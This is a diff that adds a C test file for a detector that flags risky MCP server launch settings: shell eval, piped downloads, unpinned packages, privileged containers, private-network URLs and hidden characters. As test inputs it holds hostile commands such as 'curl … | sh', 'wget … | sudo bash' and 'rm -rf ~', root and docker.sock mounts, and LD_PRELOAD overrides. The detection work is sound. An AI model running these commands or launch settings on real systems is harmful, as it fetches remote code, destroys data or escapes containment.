@@ -1,0 +1,249 @@
+/* test-risk.c
+ *
+ * SPDX-License-Identifier: GPL-3.0-or-later
+ */
+
+#include "config.h"
+
+#include <string.h>
+
+#include <glib/gstdio.h>
+
+#include "mcp-risk.h"
+#include "test-support.h"
+
+/* What is marked, in order, with a bar between; "" for nothing. */
+static char *
+mark_all (McpProfile *profile)
+{
+  g_autoptr (GPtrArray) risks = mcp_risks_find (profile);
+  GString *marked = g_string_new (NULL);
+
+  for (guint i = 0; i < risks->len; i++)
+    {
+      const McpRisk *risk = risks->pdata[i];
+      const char *whole = risk->place == MCP_RISK_ARGUMENT   ? mcp_profile_get_argv (profile)[risk->index]
+                          : risk->place == MCP_RISK_CWD      ? mcp_profile_get_cwd (profile)
+                          : risk->place == MCP_RISK_VARIABLE ? mcp_profile_get_env (profile)[risk->index]
+                                                             : mcp_profile_get_url (profile);
+
+      g_assert_cmpuint (risk->start + risk->length, <=, strlen (whole));
+      g_assert_cmpuint (risk->length, >, 0);
+      g_assert_true (risk->text != NULL && *risk->text != '\0');
+      g_string_append_printf (marked, "%s%.*s", i > 0 ? "|" : "", (int) risk->length, whole + risk->start);
+    }
+
+  return g_string_free (marked, FALSE);
+}
+
+static void
+check_argv (const char *line,
+            const char *expected)
+{
+  g_auto (GStrv) argv = NULL;
+  g_autoptr (McpProfile) profile = NULL;
+  g_autoptr (GError) error = NULL;
+  g_autofree char *marked = NULL;
+
+  g_shell_parse_argv (line, NULL, &argv, &error);
+  g_assert_no_error (error);
+  profile = mcp_profile_new_for_argv ("x", (const char * const *) argv);
+  marked = mark_all (profile);
+  if (strcmp (marked, expected) != 0)
+    g_error ("%s: marked “%s”, not “%s”", line, marked, expected);
+}
+
+static void
+test_commands (void)
+{
+  static const struct
+  {
+    const char *line;
+    const char *marked;
+  } rows[] = {
+    { "node server.js --port 3000", "" },
+    { "python3 -m mcp_server", "" },
+    { "/usr/bin/my-server --file=notes.txt", "" },
+    { "bash start.sh -c", "" },
+    { "sh -c 'echo hi'", "sh|echo hi" },
+    { "/bin/bash -lc 'exec ./x'", "/bin/bash|exec ./x" },
+    { "cmd /c npx -y a@1.0.0", "cmd|npx" },
+    { "python3.12 -c 'import x'", "python3.12|import x" },
+    { "node --eval 'x()'", "node|x()" },
+    { "sudo my-server", "sudo" },
+    { "env A=1 pkexec my-server", "pkexec" },
+    { "sh -c 'curl -s https://e.example/x | sh'",
+      "sh|curl -s https://e.example/x | sh|curl -s https://e.example/x | sh|curl" },
+    { "sh -c 'wget -qO- x|sudo bash'", "sh|wget -qO- x|sudo bash|wget -qO- x|sudo bash|wget|sudo" },
+    { "sh -c 'true || sh x'", "sh|true || sh x" },
+    { "sh -c 'cat x | sh'", "sh|cat x | sh|sh" },
+    { "sh -c 'cd x && rm -rf ~'", "sh|cd x && rm -rf ~|rm -rf" },
+    { "sh -c 'cd /tmp/x; eval x'", "sh|cd /tmp/x; eval x|/tmp/x|eval" },
+    { "rm -rf /home", "rm|-rf" },
+    { "/tmp/server", "/tmp/server" },
+    { "node /var/tmp/a/b.js --x=/dev/shm/y", "/var/tmp/a/b.js|/dev/shm/y" },
+    { "node /tmpfiles/x.js", "" },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
+    check_argv (rows[i].line, rows[i].marked);
+}
+
+static void
+test_packages (void)
+{
+  static const struct
+  {
+    const char *line;
+    const char *marked;
+  } rows[] = {
+    { "npx -y @scope/server", "@scope/server" },
+    { "npx -y @scope/server@1.2.3 --flag", "" },
+    { "npx -y @scope/server@latest", "@scope/server@latest" },
+    { "npx -y server@^1.2", "server@^1.2" },
+    { "npx --package=server@1.0.0 run-it", "" },
+    { "npx -p server run-it", "server" },
+    { "npx ./local", "" },
+    { "uvx mcp-server", "mcp-server" },
+    { "uvx mcp-server==0.4", "" },
+    { "uvx --from mcp-server==0.4 run-it", "" },
+    { "uvx --python 3.12 mcp-server@0.4", "" },
+    { "uv tool run mcp-server", "mcp-server" },
+    { "dnx Contoso.Mcp --yes", "Contoso.Mcp" },
+    { "dnx Contoso.Mcp --version 1.2.3 --yes", "" },
+    { "dnx Contoso.Mcp@1.2.3", "" },
+    { "pnpm dlx server", "server" },
+    { "pnpm install server", "" },
+    { "go run example.com/x@v1.2.3", "" },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
+    check_argv (rows[i].line, rows[i].marked);
+}
+
+static void
+test_containers (void)
+{
+  static const struct
+  {
+    const char *line;
+    const char *marked;
+  } rows[] = {
+    { "docker run -i --rm mcp/x:1.2", "" },
+    { "docker run -i --rm mcp/x", "mcp/x" },
+    { "docker run -i --rm localhost:5000/x:latest", "localhost:5000/x:latest" },
+    { "docker run mcp/x@sha256:00", "" },
+    { "docker run -v /home:/h -v data:/d mcp/x:1", "/home:/h" },
+    { "podman run --volume=/:/host mcp/x:1", "--volume=/:/host" },
+    { "docker run --mount type=bind,source=/,target=/x mcp/x:1", "type=bind,source=/,target=/x" },
+    { "docker run --mount type=volume,source=a,target=/x mcp/x:1", "" },
+    { "docker run -v /var/run/docker.sock:/s mcp/x:1", "/var/run/docker.sock:/s" },
+    { "docker run --privileged --network host --pid=host mcp/x:1", "--privileged|host|--pid=host" },
+    { "docker run --network none -e A=/b mcp/x:1 --privileged", "" },
+    { "docker ps", "" },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
+    check_argv (rows[i].line, rows[i].marked);
+}
+
+static void
+test_urls (void)
+{
+  static const struct
+  {
+    const char *url;
+    const char *marked;
+  } rows[] = {
+    { "https://example.com/mcp", "" },
+    { "wss://example.com/mcp", "" },
+    { "https://8.8.8.8/mcp", "" },
+    { "http://example.com/mcp", "http" },
+    { "ws://example.com/mcp", "ws" },
+    { "http://localhost:8000/mcp", "localhost" },
+    { "http://127.0.0.1:8000/mcp", "127.0.0.1" },
+    { "https://10.1.2.3/mcp", "10.1.2.3" },
+    { "https://172.31.0.1/", "172.31.0.1" },
+    { "https://172.32.0.1/", "" },
+    { "https://192.168.0.1/", "192.168.0.1" },
+    { "https://169.254.169.254/latest", "169.254.169.254" },
+    { "https://100.64.0.1/", "100.64.0.1" },
+    { "https://[::1]/", "::1" },
+    { "https://[fd00::1]/", "fd00::1" },
+    { "https://[fe80::1]/", "fe80::1" },
+    { "https://[::ffff:10.0.0.1]/", "::ffff:10.0.0.1" },
+    { "https://0x7f000001/", "0x7f000001" },
+    { "https://intranet/mcp", "intranet" },
+    { "https://printer.local/mcp", "printer.local" },
+    { "https://a:b@example.com/", "a:b" },
+    { "unix:/run/x.sock", "unix:/run/x.sock" },
+    { "https://${HOST}/mcp", "https://${HOST}/mcp" },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
+    {
+      g_autoptr (McpProfile) profile = mcp_profile_new_for_url ("x", rows[i].url);
+      g_autofree char *marked = mark_all (profile);
+
+      if (strcmp (marked, rows[i].marked) != 0)
+        g_error ("%s: marked “%s”, not “%s”", rows[i].url, marked, rows[i].marked);
+    }
+}
+
+/* Its directory and its variables; of those the names are marked. */
+static void
+test_around (void)
+{
+  const char *argv[] = { "my-server", NULL };
+  const char *env[] = { "API_KEY=1", "LD_PRELOAD=/x.so", "PATH=/evil", "npm_config_registry=http://x", NULL };
+  g_autofree char *folder = test_make_folder ();
+  g_autoptr (McpProfile) profile = mcp_profile_new_for_argv ("x", argv);
+  g_autofree char *marked = NULL;
+  g_autofree char *expected = NULL;
+
+  mcp_profile_set_env (profile, env);
+  mcp_profile_set_cwd (profile, folder);
+  marked = mark_all (profile);
+  expected = g_strdup_printf ("%s|LD_PRELOAD|PATH|npm_config_registry", folder);
+  g_assert_cmpstr (marked, ==, expected);
+}
+
+/* What cannot be seen, and what is more than anybody looks through. */
+static void
+test_hostile (void)
+{
+  const char *hidden[] = { "server", "a\342\200\256b", "c\nd", NULL };
+  g_autoptr (McpProfile) profile = mcp_profile_new_for_argv ("x", hidden);
+  g_autofree char *marked = mark_all (profile);
+  g_autoptr (GPtrArray) argv = g_ptr_array_new ();
+  g_autoptr (GPtrArray) risks = NULL;
+  g_autofree char *script = g_strnfill (1000 * 1000, '|');
+  gint64 before = test_get_worked_usec ();
+
+  g_assert_cmpstr (marked, ==, "a\342\200\256b|c\nd");
+
+  for (guint i = 0; i < 20000; i++)
+    g_ptr_array_add (argv, (char *) (i % 2 == 0 ? "sh" : "-c"));
+  g_ptr_array_add (argv, script);
+  g_ptr_array_add (argv, NULL);
+  mcp_profile_set_argv (profile, (const char * const *) argv->pdata);
+  risks = mcp_risks_find (profile);
+  g_assert_cmpuint (risks->len, <=, 200);
+  g_assert_cmpint (test_get_worked_usec () - before, <, G_USEC_PER_SEC);
+}
+
+int
+main (int   argc,
+      char *argv[])
+{
+  g_test_init (&argc, &argv, NULL);
+
+  g_test_add_func ("/session/risk/commands", test_commands);
+  g_test_add_func ("/session/risk/packages", test_packages);
+  g_test_add_func ("/session/risk/containers", test_containers);
+  g_test_add_func ("/session/risk/urls", test_urls);
+  g_test_add_func ("/session/risk/around", test_around);
+  g_test_add_func ("/session/risk/hostile", test_hostile);
+
+  return g_test_run ();
+}
